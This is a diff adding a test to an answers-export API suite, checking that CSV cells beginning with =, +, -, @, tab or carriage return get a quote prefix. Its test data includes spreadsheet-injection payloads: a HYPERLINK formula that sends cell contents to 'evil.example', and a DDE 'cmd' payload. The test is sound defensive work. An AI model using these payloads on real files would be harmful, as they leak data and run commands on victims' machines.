@@ -2,7 +2,8 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestKey, createTestWorkspace, type TestWorkspace } from '../../support/accounts.js';
 import { startTestServer, type TestServer } from '../../support/test-server.js';
-import { getWith } from '../../support/visibility.js';
+import { getWith, importRecords } from '../../support/visibility.js';
+import { competitorLine, promptLine, snapshotLine } from '../../support/import-records.js';
 import { seedAnswers } from './answers-fixture.js';
 
 // Today is 2026-11-22 (UTC).
@@ -128,6 +129,46 @@ describe('GET /api/v1/visibility/exports/answers', () => {
       const res = await exportOf(ws, query);
       expect([res.status, res.headers.get('content-type'), (res.body as { code: number }).code]).toEqual([422, 'application/json; charset=utf-8', 4220]);
     }
+  });
+
+  it('when texts start like spreadsheet formulas, prefixes those CSV cells with a quote and leaves NDJSON exact', async () => {
+    const ws = createTestWorkspace(server.store);
+    const prompt = promptLine({ text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' });
+    const hostile: Array<{ competitor: string | null; answer: string }> = [
+      { competitor: '=Evil Corp', answer: '+SUM(1,2)' },
+      { competitor: '@Mallory', answer: "-2+3+cmd|' /C calc'!A0" },
+      { competitor: '-Minus Ltd', answer: '@SUM(A1:A9)' },
+      { competitor: '+Plus Inc', answer: '\t=1+1' },
+      { competitor: null, answer: '\r=1+1' },
+    ];
+    const benign = 'Plain text - with = and @ inside is left alone.';
+    const snapshots = [...hostile.map((h) => h.answer), benign].map((answer, i) => snapshotLine({
+      prompt_id: prompt.id,
+      collected_at: `2026-11-2${i % 3}T08:00:0${i}.000Z`,
+      competitors: hostile[i]?.competitor ? [hostile[i]!.competitor] : [],
+      answer,
+    }));
+    await importRecords(server.store, ws, [
+      ...hostile.flatMap((h) => (h.competitor ? [competitorLine({ name: h.competitor })] : [])),
+      prompt, ...snapshots,
+    ]);
+
+    const csv = await exportOf(ws, { range: '7d', format: 'csv' });
+    const rows = parse(csv.text, { columns: true }) as Array<Record<string, string>>;
+    const byId = new Map(rows.map((r) => [r.id!, r]));
+    expect(rows).toHaveLength(6);
+    for (const [i, h] of hostile.entries()) {
+      const row = byId.get(snapshots[i]!.id)!;
+      expect([row.prompt_text, row.competitors, row.text]).toEqual([`'${prompt.record.text as string}`, h.competitor ? `'${h.competitor}` : '', `'${h.answer}`]);
+    }
+    expect(byId.get(snapshots[5]!.id)!.text).toBe(benign);
+    // No cell of the file can start a formula.
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const ndjson = await exportOf(ws, { range: '7d', format: 'ndjson' });
+    const answers = ndjson.text.trimEnd().split('\n').map((l) => JSON.parse(l) as Answer);
+    expect(answers.map((a) => [a.prompt.text, a.text]).sort()).toEqual(snapshots.map((l) => [prompt.record.text, l.record.answer]).sort());
+    expect(answers.flatMap((a) => a.competitors).sort()).toEqual(hostile.flatMap((h) => (h.competitor ? [h.competitor] : [])).sort());
   });
 
   it('when the key lacks visibility:read, answers a JSON 403 envelope', async () => {
